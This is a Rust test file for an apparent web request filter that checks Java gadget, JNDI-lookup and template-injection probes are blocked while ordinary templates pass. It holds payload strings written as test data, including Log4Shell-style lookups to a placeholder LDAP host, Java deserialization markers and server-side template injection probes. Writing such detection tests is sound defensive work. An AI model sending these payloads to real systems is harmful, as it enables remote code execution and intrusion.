//! Java gadget classes, expression and template injection: the probe
//! blocks, the template a product writes passes.

use super::*;

#[test]
fn java_and_templates() {
    blocks(
        inspect(&RequestView {
            headers: &[("user-agent", "${jndi:ldap://x.example/a}")],
            ..Default::default()
        }),
        Class::Java,
    );
    blocks(query("x=%24%7B%24%7Blower:j%7Dndi:ldap://e/a%7D"), Class::Java);
    blocks(json(r#"{"p":"java.lang.Runtime"}"#), Class::Java);
    blocks(json(r#"{"p":"java.lang.Process"}"#), Class::Java);
    blocks(query("c=org.apache.commons.beanutils.BeanComparator"), Class::Java);
    blocks(text("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"), Class::Java);
    blocks(query("t=%24%7B%7B%3C%25%5B%25%27%22%7D%7D%25%5C."), Class::Template);
    passes(json(r#"{"ref":"${{ github.ref }}","tpl":"{{#each items}}{{name}}{{/each}}"}"#));
    blocks(query("name={{7*7}}"), Class::Template);
    blocks(query("name=*%7B7*7%7D"), Class::Template);
    blocks(json(r#"{"p":"<%@ page import=\"java.io.*\" %>"}"#), Class::Java);
    blocks(query("n={{''.__class__.__mro__[1].__subclasses__()}}"), Class::Template);
    passes(json(r#"{"msg":"java.lang.NullPointerException at Foo.bar","greeting":"Hello {{name}}"}"#));
    passes(json(r#"{"note":"Rated *{5 stars}* by 20% of users; see <%= link %>"}"#));
    // doT's and EJS's unescaped output, Django's debug tag, Handlebars's
    // string-literal context; a block helper over data passes.
    for probe in ["name=%7B%7B%3D%207*7%7D%7D", "name=%3C%25-%207*7%20%25%3E", "name=%7B%25%20debug%20%25%7D"]
    {
        blocks(query(probe), Class::Template);
    }
    blocks(json(r#"{"t":"{{#with \"s\" as |string|}}{{#with \"e\"}}{{/with}}{{/with}}"}"#), Class::Template);
    passes(json(r#"{"tpl":"{{#with person as |p|}}{{p.name}}{{/with}}"}"#));
}
